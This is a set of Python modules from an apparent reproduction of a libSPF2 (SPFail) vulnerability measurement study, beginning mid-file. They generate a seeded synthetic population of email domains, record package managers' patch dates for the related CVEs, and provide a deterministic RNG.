    #: (Table 1: 135 / 22,911).
    two_week_alexa1000_overlap: float = 135 / 22_911

    @property
    def alexa_size(self) -> int:
        return max(200, int(round(ALEXA_TOTAL * self.scale)))

    @property
    def alexa_1000_size(self) -> int:
        return max(20, int(round(1000 * self.scale)))

    @property
    def two_week_size(self) -> int:
        return max(60, int(round(TWO_WEEK_TOTAL * self.scale)))


@dataclass
class DomainPopulation:
    """The generated population with set-indexed access."""

    config: PopulationConfig
    domains: List[Domain] = field(default_factory=list)
    _by_name: Dict[str, Domain] = field(default_factory=dict)

    def add(self, domain: Domain) -> None:
        if domain.name in self._by_name:
            raise SimulationError(f"duplicate domain {domain.name}")
        self.domains.append(domain)
        self._by_name[domain.name] = domain

    def __len__(self) -> int:
        return len(self.domains)

    def __contains__(self, name: str) -> bool:
        return name in self._by_name

    def get(self, name: str) -> Optional[Domain]:
        return self._by_name.get(name)

    def in_set(self, domain_set: DomainSet) -> List[Domain]:
        return [d for d in self.domains if d.in_set(domain_set)]

    def set_size(self, domain_set: DomainSet) -> int:
        return sum(1 for d in self.domains if d.in_set(domain_set))

    def overlap(self, first: DomainSet, second: DomainSet) -> int:
        """Number of domains in both sets (Table 1 cells)."""
        return sum(1 for d in self.domains if d.in_set(first) and d.in_set(second))

    def tld_counts(self, domain_set: DomainSet) -> Dict[str, int]:
        """TLD histogram for one set (Table 2 rows)."""
        counts: Dict[str, int] = {}
        for domain in self.domains:
            if domain.in_set(domain_set):
                counts[domain.tld] = counts.get(domain.tld, 0) + 1
        return counts


def _unique_name(rng: SeededRng, tld: str, taken: Dict[str, Domain]) -> str:
    for _ in range(64):
        name = f"{rng.domain_word()}.{tld}"
        if name not in taken:
            return name
        name = f"{rng.domain_word()}-{rng.label(3)}.{tld}"
        if name not in taken:
            return name
    raise SimulationError("could not generate a unique domain name")


def generate_population(config: Optional[PopulationConfig] = None) -> DomainPopulation:
    """Generate the full domain population for a configuration."""
    config = config or PopulationConfig()
    rng = SeededRng(config.seed).fork("population")
    population = DomainPopulation(config=config)

    n_alexa = config.alexa_size
    n_top = min(config.alexa_1000_size, n_alexa)

    # --- Top email providers, pinned to the head of the Alexa ranking ----
    provider_names = list(TOP_EMAIL_PROVIDER_DOMAINS)
    for rank, name in enumerate(provider_names, start=1):
        tld = name.rsplit(".", 1)[1]
        sets = DomainSet.TOP_EMAIL_PROVIDERS | DomainSet.ALEXA_TOP_LIST
        if rank <= n_top:
            sets |= DomainSet.ALEXA_1000
        population.add(
            Domain(
                name=name,
                tld=tld,
                sets=sets,
                alexa_rank=rank,
                provider_name=name.split(".")[0],
            )
        )

    # --- Remaining Alexa Top List domains ---------------------------------
    rank = len(provider_names)
    alexa_count = population.set_size(DomainSet.ALEXA_TOP_LIST)
    while alexa_count < n_alexa:
        rank += 1
        alexa_count += 1
        tld = rng.weighted_choice(ALEXA_TLD_WEIGHTS)
        name = _unique_name(rng, tld, population._by_name)
        sets = DomainSet.ALEXA_TOP_LIST
        if rank <= n_top:
            sets |= DomainSet.ALEXA_1000
        population.add(Domain(name=name, tld=tld, sets=sets, alexa_rank=rank))

    # --- 2-Week MX set -----------------------------------------------------
    n_two_week = config.two_week_size
    n_overlap = int(round(config.two_week_alexa_overlap * n_two_week))
    n_overlap_top = min(
        int(round(config.two_week_alexa1000_overlap * n_two_week)), n_overlap
    )

    alexa_domains = population.in_set(DomainSet.ALEXA_TOP_LIST)
    top_domains = [d for d in alexa_domains if d.in_set(DomainSet.ALEXA_1000)]
    non_top = [d for d in alexa_domains if not d.in_set(DomainSet.ALEXA_1000)]

    overlap_from_top = rng.sample(top_domains, min(n_overlap_top, len(top_domains)))
    overlap_rest = rng.sample(
        non_top, min(n_overlap - len(overlap_from_top), len(non_top))
    )
    two_week_count = 0
    for domain in overlap_from_top + overlap_rest:
        domain.sets |= DomainSet.TWO_WEEK_MX
        # Popular domains are queried often in university traffic.
        domain.mx_query_count = 50 + rng.zipf_size(alpha=1.4, max_size=100_000)
        two_week_count += 1

    while two_week_count < n_two_week:
        tld = rng.weighted_choice(TWO_WEEK_TLD_WEIGHTS)
        name = _unique_name(rng, tld, population._by_name)
        population.add(
            Domain(
                name=name,
                tld=tld,
                sets=DomainSet.TWO_WEEK_MX,
                mx_query_count=rng.zipf_size(alpha=1.5, max_size=50_000),
            )
        )
        two_week_count += 1

    return population
