"""Domain population generation — lazy and columnar.

Generates the paper's two measurement sets — the **Alexa Top List**
(418,842 domains, October 2021 snapshot) and the **2-Week MX** set
(22,911 email domains observed at a university) — plus the **Alexa Top
1000** subset and the **Top Email Providers** list (Foster et al.'s 20
most-common email services), with the paper's overlaps (Table 1) and TLD
mix (Table 2).

Unlike the original eager implementation, nothing here materializes the
population up front.  A :class:`DomainTable` stores the population as
parallel column chunks (TLD index, set-membership bitmask, MX query
count) generated on demand, and every row is a pure function of
``(config.seed, index)``:

- index ``0 .. 19`` — the top email providers, pinned to the head of the
  Alexa ranking;
- index ``20 .. alexa_size-1`` — the remaining Alexa Top List (rank is
  ``index + 1``; the Alexa 1000 is the head);
- index ``alexa_size .. len-1`` — the 2-Week-MX-only tail.

Membership of the 2-Week MX ∩ Alexa overlaps is decided by exact-count
affine selections instead of rejection sampling, so Table 1 cell sizes
are closed-form at every scale.  Generated names carry a deterministic
base-36 suffix derived from the row index, which makes name generation
O(1) and total (no collision-retry loop) and gives `get`/`__contains__`
an O(1) reverse lookup.  :class:`Domain` objects are cheap views
materialized on access and cached weakly, so memory stays O(touched)
rather than O(world).

Everything scales with ``PopulationConfig.scale`` so tests run on a
small Internet and benches can approach (and exceed) the paper's full
counts.
"""

from __future__ import annotations

import enum
import math
import weakref
from array import array
from collections import OrderedDict
from dataclasses import dataclass
from typing import Dict, Iterator, List, Optional, Tuple

from .rng import SeededRng
from .tld import ALEXA_TLD_WEIGHTS, ALEXA_TOTAL, TWO_WEEK_TLD_WEIGHTS, TWO_WEEK_TOTAL


class DomainSet(enum.Flag):
    """Measurement-set membership (a domain may be in several)."""

    ALEXA_TOP_LIST = enum.auto()
    ALEXA_1000 = enum.auto()
    TWO_WEEK_MX = enum.auto()
    TOP_EMAIL_PROVIDERS = enum.auto()


_SINGLE_SETS: Tuple[DomainSet, ...] = (
    DomainSet.ALEXA_TOP_LIST,
    DomainSet.ALEXA_1000,
    DomainSet.TWO_WEEK_MX,
    DomainSet.TOP_EMAIL_PROVIDERS,
)


#: The 20 most common email services (after Foster et al. [6]); the paper's
#: Table 3 "Top Email Providers" column tests these domains.
TOP_EMAIL_PROVIDER_DOMAINS: Tuple[str, ...] = (
    "gmail.com", "outlook.com", "yahoo.com", "icloud.com", "aol.com",
    "mail.ru", "naver.com", "hotmail.com", "comcast.net", "verizon.net",
    "qq.com", "163.com", "gmx.de", "web.de", "daum.net",
    "seznam.cz", "wp.pl", "o2.pl", "interia.pl", "yandex.ru",
)

#: Providers the paper found vulnerable (Section 7.5) — international
#: services inside the Alexa Top 1000.
VULNERABLE_PROVIDER_DOMAINS: Tuple[str, ...] = (
    "naver.com", "mail.ru", "wp.pl", "seznam.cz",
)


@dataclass
class Domain:
    """One measured email domain (a cheap view over a table row)."""

    name: str
    tld: str
    sets: DomainSet
    alexa_rank: Optional[int] = None
    mx_query_count: Optional[int] = None
    provider_name: Optional[str] = None

    def in_set(self, domain_set: DomainSet) -> bool:
        return bool(self.sets & domain_set)


@dataclass(frozen=True)
class PopulationConfig:
    """Knobs for population generation.

    ``scale`` multiplies the paper's set sizes (1.0 = full size).  The
    Table 1 overlap fractions are preserved at every scale.
    """

    scale: float = 0.05
    seed: int = 20211011
    #: Fraction of the 2-Week MX set also present in the Alexa Top List
    #: (Table 1: 2,922 / 22,911).
    two_week_alexa_overlap: float = 2_922 / 22_911
    #: Fraction of the 2-Week MX set also present in the Alexa Top 1000
    #: (Table 1: 135 / 22,911).
    two_week_alexa1000_overlap: float = 135 / 22_911

    @property
    def alexa_size(self) -> int:
        return max(200, int(round(ALEXA_TOTAL * self.scale)))

    @property
    def alexa_1000_size(self) -> int:
        return max(20, int(round(1000 * self.scale)))

    @property
    def two_week_size(self) -> int:
        return max(60, int(round(TWO_WEEK_TOTAL * self.scale)))


_BASE36_DIGITS = "0123456789abcdefghijklmnopqrstuvwxyz"


def _base36(value: int) -> str:
    if value == 0:
        return "0"
    out = []
    while value:
        value, digit = divmod(value, 36)
        out.append(_BASE36_DIGITS[digit])
    return "".join(reversed(out))


class _AffineSelection:
    """Exactly ``count`` members of ``range(size)`` with O(1) membership.

    The bijection ``i -> (i * mult + offset) % size`` (``mult`` coprime
    to ``size``) scatters indices over a pseudo-random ordering; members
    are the indices that land in the first ``count`` slots.  Unlike
    rejection sampling this is exact-count and needs no materialized
    index set, which keeps Table 1 overlap cells closed-form.
    """

    __slots__ = ("size", "count", "mult", "offset")

    def __init__(self, rng: SeededRng, size: int, count: int) -> None:
        self.size = size
        self.count = max(0, min(count, size))
        if size <= 0:
            self.mult, self.offset = 1, 0
            return
        mult = rng.randint(1, max(1, size - 1))
        while math.gcd(mult, size) != 1:
            mult = mult % size + 1
        self.mult = mult
        self.offset = rng.randint(0, size - 1)

    def member(self, index: int) -> bool:
        if self.count <= 0:
            return False
        return (index * self.mult + self.offset) % self.size < self.count


#: Rows per column chunk; chunk generation is the unit of laziness.
CHUNK_ROWS = 4096
#: Generated chunks kept alive in the table's LRU.
_CHUNK_CACHE = 64
#: Scattered single-row lookups memoized outside the chunk LRU.  Bounded
#: well under the chunk cache's footprint (a row tuple is ~200 bytes, so
#: the worst case is a few MB against the 64 MB world budget); cleared
#: wholesale when full because hosting-unit access patterns re-touch a
#: small working set.
_ROW_MEMO_CAP = 32768


class _Chunk:
    """One chunk of parallel column arrays (plus memoized name labels)."""

    __slots__ = ("names", "tld_idx", "flags", "mx")

    def __init__(
        self, names: List[str], tld_idx: array, flags: array, mx: array
    ) -> None:
        self.names = names
        self.tld_idx = tld_idx
        self.flags = flags
        self.mx = mx


class DomainTable:
    """Columnar, lazily generated domain rows.

    Row *i* is regenerated deterministically from ``(seed, i)``: a
    per-index fork of the population RNG (label ``dom-{i}``) redraws the
    same TLD, name word and query count every time the chunk holding the
    row is rebuilt.  Columns live in parallel ``array`` chunks of
    :data:`CHUNK_ROWS` rows, produced on first touch and kept in a small
    LRU, so holding a table costs O(touched chunks), not O(world).
    """

    def __init__(self, config: PopulationConfig) -> None:
        self.config = config
        self.n_providers = len(TOP_EMAIL_PROVIDER_DOMAINS)
        self.n_alexa = config.alexa_size
        self.n_top = min(config.alexa_1000_size, self.n_alexa)
        self.n_two_week = config.two_week_size

        n_overlap = int(round(config.two_week_alexa_overlap * self.n_two_week))
        n_overlap_top = min(
            int(round(config.two_week_alexa1000_overlap * self.n_two_week)),
            n_overlap,
        )
        #: overlap pulled from the Alexa 1000 head (providers included,
        #: mirroring the eager sampler's ``top_domains`` pool).
        self.k_top = min(n_overlap_top, self.n_top)
        self.k_rest = min(n_overlap - self.k_top, self.n_alexa - self.n_top)
        self.n_two_week_only = self.n_two_week - self.k_top - self.k_rest
        self.total = self.n_alexa + self.n_two_week_only

        self._root = SeededRng(config.seed).fork("population")
        self._sel_top = _AffineSelection(
            self._root.fork("two-week-top"), self.n_top, self.k_top
        )
        self._sel_rest = _AffineSelection(
            self._root.fork("two-week-rest"),
            self.n_alexa - self.n_top,
            self.k_rest,
        )

        tlds = set(ALEXA_TLD_WEIGHTS) | set(TWO_WEEK_TLD_WEIGHTS)
        tlds.update(name.rsplit(".", 1)[1] for name in TOP_EMAIL_PROVIDER_DOMAINS)
        self.tlds: Tuple[str, ...] = tuple(sorted(tlds))
        self._tld_index: Dict[str, int] = {t: i for i, t in enumerate(self.tlds)}
        self._provider_index: Dict[str, int] = {
            name: i for i, name in enumerate(TOP_EMAIL_PROVIDER_DOMAINS)
        }
        self._chunks: "OrderedDict[int, _Chunk]" = OrderedDict()
        self._row_memo: Dict[int, Tuple[str, str, int, int]] = {}
        # Read-only cache telemetry (repro.obs.perf counter surface).
        # Plain always-on integers: the counts are deterministic for a
        # given access pattern, so the report can print them, and reading
        # them from the perf sampler thread cannot perturb the cache.
        self.chunk_hits = 0
        self.chunk_misses = 0
        self.chunk_evictions = 0
        self.row_regens = 0

    def __len__(self) -> int:
        return self.total

    @property
    def chunk_count(self) -> int:
        return (self.total + CHUNK_ROWS - 1) // CHUNK_ROWS

    def in_two_week_overlap(self, index: int) -> bool:
        """Whether Alexa row ``index`` is also a 2-Week MX member."""
        if index < self.n_top:
            return self._sel_top.member(index)
        if index < self.n_alexa:
            return self._sel_rest.member(index - self.n_top)
        return False

    def provider_two_week_count(self) -> int:
        return sum(
            1 for i in range(self.n_providers) if self._sel_top.member(i)
        )

    # -- chunk generation -----------------------------------------------------

    def chunk(self, chunk_index: int) -> _Chunk:
        chunk = self._chunks.get(chunk_index)
        if chunk is None:
            self.chunk_misses += 1
            chunk = self._generate_chunk(chunk_index)
            self._chunks[chunk_index] = chunk
            while len(self._chunks) > _CHUNK_CACHE:
                self._chunks.popitem(last=False)
                self.chunk_evictions += 1
        else:
            self.chunk_hits += 1
            self._chunks.move_to_end(chunk_index)
        return chunk

    def _generate_chunk(self, chunk_index: int) -> _Chunk:
        lo = chunk_index * CHUNK_ROWS
        hi = min(lo + CHUNK_ROWS, self.total)
        names: List[str] = []
        tld_idx = array("H")
        flags = array("B")
        mx = array("L")
        for index in range(lo, hi):
            name, tld, flag_bits, count = self._generate_row(index)
            names.append(name)
            tld_idx.append(self._tld_index[tld])
            flags.append(flag_bits)
            mx.append(count)
        return _Chunk(names, tld_idx, flags, mx)

    def _generate_row(self, index: int) -> Tuple[str, str, int, int]:
        """Regenerate row ``index`` from its ``(seed, index)`` fork."""
        rng = self._root.fork(f"dom-{index}")
        if index < self.n_providers:
            name = TOP_EMAIL_PROVIDER_DOMAINS[index]
            tld = name.rsplit(".", 1)[1]
            flag_bits = (
                DomainSet.TOP_EMAIL_PROVIDERS | DomainSet.ALEXA_TOP_LIST
            ).value
            if index < self.n_top:
                flag_bits |= DomainSet.ALEXA_1000.value
            count = 0
            if self._sel_top.member(index):
                flag_bits |= DomainSet.TWO_WEEK_MX.value
                count = 50 + rng.zipf_size(alpha=1.4, max_size=100_000)
            return name, tld, flag_bits, count
        if index < self.n_alexa:
            tld = rng.weighted_choice(ALEXA_TLD_WEIGHTS)
            name = f"{rng.domain_word()}-{_base36(index)}.{tld}"
            flag_bits = DomainSet.ALEXA_TOP_LIST.value
            if index < self.n_top:
                flag_bits |= DomainSet.ALEXA_1000.value
            count = 0
            if self.in_two_week_overlap(index):
                flag_bits |= DomainSet.TWO_WEEK_MX.value
                # Popular domains are queried often in university traffic.
                count = 50 + rng.zipf_size(alpha=1.4, max_size=100_000)
            return name, tld, flag_bits, count
        tld = rng.weighted_choice(TWO_WEEK_TLD_WEIGHTS)
        name = f"{rng.domain_word()}-{_base36(index)}.{tld}"
        return (
            name,
            tld,
            DomainSet.TWO_WEEK_MX.value,
            rng.zipf_size(alpha=1.5, max_size=50_000),
        )

    # -- row access -----------------------------------------------------------

    def row(self, index: int) -> Tuple[str, str, int, int]:
        """``(name, tld, flag bits, mx count)`` for row ``index``.

        Reads through an already-cached chunk when one covers the index,
        but a miss regenerates the *single* row: rows are independent
        functions of ``(seed, index)``, and scattered access (a hosting
        unit's permuted domain list, a snapshot restore) must not pay
        for — or thrash the cache of — 4096 neighbors per lookup.  Whole
        chunks are generated only by the sequential scans.
        """
        if not 0 <= index < self.total:
            raise IndexError(index)
        chunk = self._chunks.get(index // CHUNK_ROWS)
        if chunk is None:
            row = self._row_memo.get(index)
            if row is None:
                self.row_regens += 1
                row = self._generate_row(index)
                if len(self._row_memo) >= _ROW_MEMO_CAP:
                    self._row_memo.clear()
                self._row_memo[index] = row
            return row
        self.chunk_hits += 1
        self._chunks.move_to_end(index // CHUNK_ROWS)
        offset = index % CHUNK_ROWS
        return (
            chunk.names[offset],
            self.tlds[chunk.tld_idx[offset]],
            chunk.flags[offset],
            chunk.mx[offset],
        )

    def name_at(self, index: int) -> str:
        return self.row(index)[0]

    def index_of(self, name: str) -> Optional[int]:
        """Reverse the deterministic naming scheme, or ``None``.

        Provider names come from a fixed dictionary; every generated name
        carries the ``-<base36 index>`` suffix, so the candidate index is
        parsed in O(1) and confirmed by regenerating the row.
        """
        provider = self._provider_index.get(name)
        if provider is not None:
            return provider
        label, dot, _tld = name.rpartition(".")
        if not dot:
            return None
        word, dash, suffix = label.rpartition("-")
        if not dash or not word or not suffix:
            return None
        try:
            index = int(suffix, 36)
        except ValueError:
            return None
        if suffix != _base36(index):  # reject non-canonical spellings
            return None
        if not self.n_providers <= index < self.total:
            return None
        if self.name_at(index) != name:
            return None
        return index

    def perf_counters(self) -> Dict[str, int]:
        """Read-only chunk-LRU telemetry (deterministic counts)."""
        return {
            "population.chunk_hits": self.chunk_hits,
            "population.chunk_misses": self.chunk_misses,
            "population.chunk_evictions": self.chunk_evictions,
            "population.row_regens": self.row_regens,
        }


class _DomainSequence:
    """A list-like lazy view over a population's domains."""

    __slots__ = ("_population",)

    def __init__(self, population: "DomainPopulation") -> None:
        self._population = population

    def __len__(self) -> int:
        return len(self._population.table)

    def __getitem__(self, item):
        size = len(self)
        if isinstance(item, slice):
            return [
                self._population.domain_at(i) for i in range(*item.indices(size))
            ]
        if item < 0:
            item += size
        if not 0 <= item < size:
            raise IndexError(item)
        return self._population.domain_at(item)

    def __iter__(self) -> Iterator[Domain]:
        for index in range(len(self)):
            yield self._population.domain_at(index)


class DomainPopulation:
    """Set-indexed access over a lazily generated :class:`DomainTable`.

    ``domains`` is a lazy sequence; indexing or iterating it materializes
    :class:`Domain` views on demand.  Views are cached weakly, so two
    lookups of a live domain return the *same* object while memory still
    stays proportional to what callers actually hold.

    Membership is part of the public API — ``name in population``,
    :meth:`get` and :meth:`index_of` — so nothing outside this class has
    a reason to reach into private lookup state (the eager
    implementation's ``_unique_name`` used to probe ``_by_name``
    directly; the deterministic index-derived names removed both the
    retry loop and the need for reservation bookkeeping).

    Set statistics (:meth:`set_size`, :meth:`overlap`,
    :meth:`tld_counts`) are closed-form where the generation scheme pins
    them and cached otherwise — the Table 1/2 report builders call them
    repeatedly per report.
    """

    def __init__(self, config: Optional[PopulationConfig] = None) -> None:
        self.config = config or PopulationConfig()
        self.table = DomainTable(self.config)
        self.domains = _DomainSequence(self)
        self._views: "weakref.WeakValueDictionary[int, Domain]" = (
            weakref.WeakValueDictionary()
        )
        self._stats: Dict[tuple, object] = {}

    # -- row views ------------------------------------------------------------

    def domain_at(self, index: int) -> Domain:
        """The (cached) :class:`Domain` view for row ``index``."""
        view = self._views.get(index)
        if view is not None:
            return view
        name, tld, flag_bits, count = self.table.row(index)
        sets = DomainSet(flag_bits)
        view = Domain(
            name=name,
            tld=tld,
            sets=sets,
            alexa_rank=index + 1 if index < self.table.n_alexa else None,
            mx_query_count=count or None,
            provider_name=(
                name.split(".")[0]
                if sets & DomainSet.TOP_EMAIL_PROVIDERS
                else None
            ),
        )
        self._views[index] = view
        return view

    def index_of(self, name: str) -> Optional[int]:
        """The table row generating ``name``, or ``None``."""
        return self.table.index_of(name)

    def perf_counters(self) -> Dict[str, int]:
        """The underlying table's cache telemetry."""
        return self.table.perf_counters()

    def __len__(self) -> int:
        return len(self.table)

    def __contains__(self, name: str) -> bool:
        return self.table.index_of(name) is not None

    def get(self, name: str) -> Optional[Domain]:
        index = self.table.index_of(name)
        return None if index is None else self.domain_at(index)

    # -- set statistics -------------------------------------------------------

    def in_set(self, domain_set: DomainSet) -> List[Domain]:
        """Materialized views for every member of ``domain_set``."""
        mask = domain_set.value
        table = self.table
        out: List[Domain] = []
        for chunk_index in range(table.chunk_count):
            chunk = table.chunk(chunk_index)
            base = chunk_index * CHUNK_ROWS
            for offset, flag_bits in enumerate(chunk.flags):
                if flag_bits & mask:
                    out.append(self.domain_at(base + offset))
        return out

    def set_size(self, domain_set: DomainSet) -> int:
        table = self.table
        if domain_set == DomainSet.ALEXA_TOP_LIST:
            return table.n_alexa
        if domain_set == DomainSet.ALEXA_1000:
            return table.n_top
        if domain_set == DomainSet.TWO_WEEK_MX:
            return table.n_two_week
        if domain_set == DomainSet.TOP_EMAIL_PROVIDERS:
            return table.n_providers
        key = ("size", domain_set.value)
        if key not in self._stats:
            self._stats[key] = sum(
                1
                for chunk_index in range(table.chunk_count)
                for flag_bits in table.chunk(chunk_index).flags
                if flag_bits & domain_set.value
            )
        return self._stats[key]  # type: ignore[return-value]

    def overlap(self, first: DomainSet, second: DomainSet) -> int:
        """Number of domains in both sets (Table 1 cells)."""
        if first == second:
            return self.set_size(first)
        closed = self._closed_overlap(first, second)
        if closed is not None:
            return closed
        key = ("overlap", frozenset((first.value, second.value)))
        if key not in self._stats:
            table = self.table
            self._stats[key] = sum(
                1
                for chunk_index in range(table.chunk_count)
                for flag_bits in table.chunk(chunk_index).flags
                if flag_bits & first.value and flag_bits & second.value
            )
        return self._stats[key]  # type: ignore[return-value]

    def _closed_overlap(self, first: DomainSet, second: DomainSet) -> Optional[int]:
        if first not in _SINGLE_SETS or second not in _SINGLE_SETS:
            return None
        table = self.table
        pair = frozenset((first, second))
        if pair == {DomainSet.ALEXA_TOP_LIST, DomainSet.ALEXA_1000}:
            return table.n_top
        if pair == {DomainSet.ALEXA_TOP_LIST, DomainSet.TWO_WEEK_MX}:
            return table.k_top + table.k_rest
        if pair == {DomainSet.ALEXA_TOP_LIST, DomainSet.TOP_EMAIL_PROVIDERS}:
            return table.n_providers
        if pair == {DomainSet.ALEXA_1000, DomainSet.TWO_WEEK_MX}:
            return table.k_top
        if pair == {DomainSet.ALEXA_1000, DomainSet.TOP_EMAIL_PROVIDERS}:
            return min(table.n_providers, table.n_top)
        if pair == {DomainSet.TWO_WEEK_MX, DomainSet.TOP_EMAIL_PROVIDERS}:
            return table.provider_two_week_count()
        return None

    def tld_counts(self, domain_set: DomainSet) -> Dict[str, int]:
        """TLD histogram for one set (Table 2 rows)."""
        key = ("tld", domain_set.value)
        cached = self._stats.get(key)
        if cached is None:
            table = self.table
            mask = domain_set.value
            counts: Dict[str, int] = {}
            for chunk_index in range(table.chunk_count):
                chunk = table.chunk(chunk_index)
                for flag_bits, tld_index in zip(chunk.flags, chunk.tld_idx):
                    if flag_bits & mask:
                        tld = table.tlds[tld_index]
                        counts[tld] = counts.get(tld, 0) + 1
            self._stats[key] = cached = counts
        return dict(cached)  # callers may mutate their copy


def generate_population(config: Optional[PopulationConfig] = None) -> DomainPopulation:
    """The (lazy) domain population for a configuration.

    Construction is O(1) in the population size: rows generate on first
    touch and regenerate identically from ``(seed, index)``.
    """
    return DomainPopulation(config)
