"""Package-manager response timeline (paper Table 6).

Table 6 is a recorded timeline rather than a measurement, so it is
encoded verbatim: for each package manager, when (if ever) it shipped a
fixed libSPF2 for CVE-2021-20314 (Jeitner et al.'s earlier stack overflow)
and for CVE-2021-33912/33913 (this paper's CVEs).  Several managers folded
the SPFail fixes into their CVE-2021-20314 update, which is why some
"days from disclosure" entries are 0 with dates *before* the SPFail public
disclosure.

The patching behavior model uses this table to drive package-manager-
mediated patch events: a hosting unit subscribed to a distribution patches
shortly after its distribution ships a fix.
"""

from __future__ import annotations

import datetime as _dt
from dataclasses import dataclass
from typing import Dict, List, Optional

from ..clock import PUBLIC_DISCLOSURE, utc

#: Disclosure date of CVE-2021-20314 (Jeitner et al.).
CVE_2021_20314_DISCLOSURE = utc(2021, 8, 11)


@dataclass(frozen=True)
class PackageManagerRecord:
    """One package manager's response to both libSPF2 CVE events."""

    name: str
    #: Date the fix for CVE-2021-20314 shipped (None = never, as of the
    #: paper's writing).
    cve_20314_patch: Optional[_dt.datetime]
    #: Date the fix for CVE-2021-33912/33913 shipped (None = never).
    cve_33912_patch: Optional[_dt.datetime]
    #: True if the SPFail fixes rode along with the CVE-2021-20314 update
    #: (marked ``0*`` in the paper's Table 6).
    folded_into_20314: bool = False
    #: Approximate share of libSPF2 deployments tracking this manager.
    deployment_share: float = 0.0

    def days_to_patch_20314(self) -> Optional[int]:
        if self.cve_20314_patch is None:
            return None
        return (self.cve_20314_patch - CVE_2021_20314_DISCLOSURE).days

    def days_to_patch_33912(self) -> Optional[int]:
        if self.cve_33912_patch is None:
            return None
        return max(0, (self.cve_33912_patch - PUBLIC_DISCLOSURE).days)


#: Paper Table 6, verbatim.  The Debian entry for the SPFail CVEs is dated
#: 2022-01-20 (the paper's table prints "2021-01-20", an evident typo —
#: the public disclosure was 2022-01-19 and the text says the Debian patch
#: coincided with it).
PACKAGE_MANAGER_TIMELINE: List[PackageManagerRecord] = [
    PackageManagerRecord(
        "Debian", utc(2021, 8, 11), utc(2022, 1, 20), deployment_share=0.30
    ),
    PackageManagerRecord(
        "Alpine", utc(2021, 8, 11), utc(2022, 3, 11), deployment_share=0.04
    ),
    PackageManagerRecord(
        "RedHat", utc(2021, 9, 22), utc(2021, 9, 22),
        folded_into_20314=True, deployment_share=0.10,
    ),
    PackageManagerRecord(
        "Gentoo", utc(2021, 10, 25), utc(2021, 10, 25),
        folded_into_20314=True, deployment_share=0.02,
    ),
    PackageManagerRecord(
        "Arch Linux", utc(2021, 11, 22), utc(2021, 11, 22),
        folded_into_20314=True, deployment_share=0.03,
    ),
    PackageManagerRecord("Ubuntu", None, None, deployment_share=0.25),
    PackageManagerRecord("FreeBSD Ports", None, None, deployment_share=0.04),
    PackageManagerRecord("NetBSD", None, None, deployment_share=0.01),
    PackageManagerRecord("SUSE Hub", None, None, deployment_share=0.03),
]

#: Share of deployments not tracking any package manager (built from
#: source, vendored, abandoned boxes...).
UNMANAGED_SHARE = 1.0 - sum(r.deployment_share for r in PACKAGE_MANAGER_TIMELINE)


def manager_by_name(name: str) -> PackageManagerRecord:
    for record in PACKAGE_MANAGER_TIMELINE:
        if record.name.lower() == name.lower():
            return record
    raise KeyError(f"unknown package manager {name!r}")


def managers_patched_by(when: _dt.datetime) -> List[PackageManagerRecord]:
    """Managers that had shipped the SPFail fix by ``when``."""
    return [
        record
        for record in PACKAGE_MANAGER_TIMELINE
        if record.cve_33912_patch is not None and record.cve_33912_patch <= when
    ]


def deployment_shares() -> Dict[str, float]:
    """Manager name → share, including the unmanaged remainder."""
    shares = {r.name: r.deployment_share for r in PACKAGE_MANAGER_TIMELINE}
    shares["(unmanaged)"] = UNMANAGED_SHARE
    return shares
