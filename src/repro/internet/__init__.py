"""The synthetic Internet the measurement runs against.

The paper measured the live Internet: two domain sets (the Alexa Top List
and two weeks of university email traffic), their MX/A records, the mail
servers behind them, their SPF stacks, where they sit geographically, and
how their operators patch.  None of that is reachable offline, so this
package generates a *population* with the paper's measured statistical
shape (set sizes and overlaps, TLD mix, hosting consolidation, SMTP
behavior buckets, SPF behavior mix, patch propensities) and materializes
it as live simulated infrastructure: DNS zones, SMTP servers, a
geolocation database, and a patch-event timeline.

Everything is seeded and deterministic: the same
:class:`~repro.internet.population.PopulationConfig` always yields the
same Internet.
"""

from .rng import SeededRng
from .tld import TldModel, ALEXA_TLD_WEIGHTS, TWO_WEEK_TLD_WEIGHTS
from .population import (
    Domain,
    DomainSet,
    DomainPopulation,
    PopulationConfig,
    generate_population,
)
from .mta_fleet import HostingUnit, MtaFleet, build_fleet, FleetProfile
from .geo import GeoDatabase, GeoLocation, assign_geography
from .patching import PatchBehaviorModel, PatchPlan, PatchTrigger
from .package_managers import (
    PackageManagerRecord,
    PACKAGE_MANAGER_TIMELINE,
    managers_patched_by,
)

__all__ = [
    "SeededRng",
    "TldModel",
    "ALEXA_TLD_WEIGHTS",
    "TWO_WEEK_TLD_WEIGHTS",
    "Domain",
    "DomainSet",
    "DomainPopulation",
    "PopulationConfig",
    "generate_population",
    "HostingUnit",
    "MtaFleet",
    "build_fleet",
    "FleetProfile",
    "GeoDatabase",
    "GeoLocation",
    "assign_geography",
    "PatchBehaviorModel",
    "PatchPlan",
    "PatchTrigger",
    "PackageManagerRecord",
    "PACKAGE_MANAGER_TIMELINE",
    "managers_patched_by",
]
