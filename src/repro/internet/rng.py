"""Seeded randomness for population generation.

A thin wrapper over :class:`random.Random` with the sampling helpers the
population model needs.  All generation flows through one
:class:`SeededRng` per population so experiments are reproducible
bit-for-bit from a single seed.
"""

from __future__ import annotations

import random
import string
import zlib
from bisect import bisect_right
from typing import Dict, List, Sequence, Tuple, TypeVar

T = TypeVar("T")

_ALNUM = string.ascii_lowercase + string.digits

# Cumulative-weight tables memoized per weights dict.  Keyed by id() with
# a strong reference to the dict held in the value: the reference keeps
# the id from being reused while cached, and the identity check below
# catches any collision after a wholesale clear.  The hot callers (TLD
# weight tables) are module constants, so this caches a handful of
# entries for millions of draws.
_WEIGHT_TABLES: Dict[int, tuple] = {}
_WEIGHT_TABLES_CAP = 256


class SeededRng:
    """Deterministic random source for the simulation."""

    def __init__(self, seed: int = 20211011) -> None:
        self.seed = seed
        self._random = random.Random(seed)

    def fork(self, label: str) -> "SeededRng":
        """A child RNG derived from this seed and a label.

        Forking isolates subsystems: adding draws in one generator does
        not perturb another's stream.  The derivation uses CRC32 rather
        than :func:`hash` because Python randomizes string hashing per
        process, which would break cross-run reproducibility.
        """
        derived = zlib.crc32(f"{self.seed}/{label}".encode("utf-8"))
        return SeededRng(derived & 0x7FFFFFFF)

    def bernoulli(self, p: float) -> bool:
        return self._random.random() < p

    def uniform(self, low: float, high: float) -> float:
        return self._random.uniform(low, high)

    def randint(self, low: int, high: int) -> int:
        return self._random.randint(low, high)

    def choice(self, items: Sequence[T]) -> T:
        return self._random.choice(items)

    def shuffle(self, items: List[T]) -> None:
        self._random.shuffle(items)

    def sample(self, items: Sequence[T], count: int) -> List[T]:
        return self._random.sample(items, count)

